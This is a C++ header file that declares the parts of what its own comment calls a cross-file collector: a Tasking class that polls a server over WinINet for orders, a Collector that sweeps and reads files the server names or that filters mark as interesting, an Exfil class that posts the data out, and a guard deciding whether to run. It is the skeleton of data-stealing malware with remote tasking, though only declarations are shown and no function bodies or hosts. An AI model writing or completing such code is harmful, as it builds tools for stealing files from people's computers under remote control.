// A cross-file collector: tasking.cpp receives orders over WinINet, collector.cpp opens and
// reads what the server named or what the filters in filters.cpp pick, exfil.cpp posts it,
// guard.cpp decides whether to run at all.
#pragma once
#include <windows.h>
#include <wininet.h>
#include <string>
#include <vector>

class Exfil {
public:
    explicit Exfil(HINTERNET connect) : m_connect(connect) {}
    bool Post(const std::wstring &path, const std::vector<BYTE> &data);
private:
    HINTERNET m_connect;
};

class Collector {
public:
    explicit Collector(Exfil *out) : m_out(out) {}
    std::vector<BYTE> Fetch(const std::wstring &path);
    void Sweep(const std::wstring &root);
    void SweepNamed(const std::wstring &pattern);
private:
    Exfil *m_out;
};

class Tasking {
public:
    Tasking(HINTERNET req, Collector *c, Exfil *e) : m_req(req), m_collector(c), m_exfil(e) {}
    void Poll();
private:
    HINTERNET m_req;
    Collector *m_collector;
    Exfil *m_exfil;
};

bool IsInteresting(const wchar_t *name);
bool ShouldRun();
std::wstring Widen(const std::string &s);
